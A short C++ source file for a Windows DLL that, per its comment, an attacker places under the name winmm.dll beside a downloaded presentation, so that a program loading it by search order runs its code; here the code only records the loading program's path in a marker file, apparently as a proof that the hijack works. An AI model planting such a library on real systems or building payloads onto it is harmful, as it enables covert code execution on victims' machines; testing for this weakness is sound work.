// A library that an attacker leaves beside a downloaded presentation under a
// system library's name. Loaded, it adds the loading program's path to a
// marker next to itself ("winmm.dll.loaded") and lets the program go on.

#include <windows.h>

extern "C" BOOL WINAPI DllMain(HINSTANCE self, DWORD reason, LPVOID) {
  if (reason != DLL_PROCESS_ATTACH) return TRUE;
  char marker[MAX_PATH + 8] = {}, program[MAX_PATH] = {};
  GetModuleFileNameA(self, marker, MAX_PATH);
  lstrcatA(marker, ".loaded");
  const DWORD length = GetModuleFileNameA(nullptr, program, MAX_PATH - 2);
  lstrcatA(program, "\r\n");
  const HANDLE file = CreateFileA(marker, FILE_APPEND_DATA, FILE_SHARE_READ | FILE_SHARE_WRITE, nullptr, OPEN_ALWAYS,
                                  FILE_ATTRIBUTE_NORMAL, nullptr);
  if (file == INVALID_HANDLE_VALUE) return TRUE;
  DWORD written = 0;
  WriteFile(file, program, length + 2, &written, nullptr);
  CloseHandle(file);
  return TRUE;
}
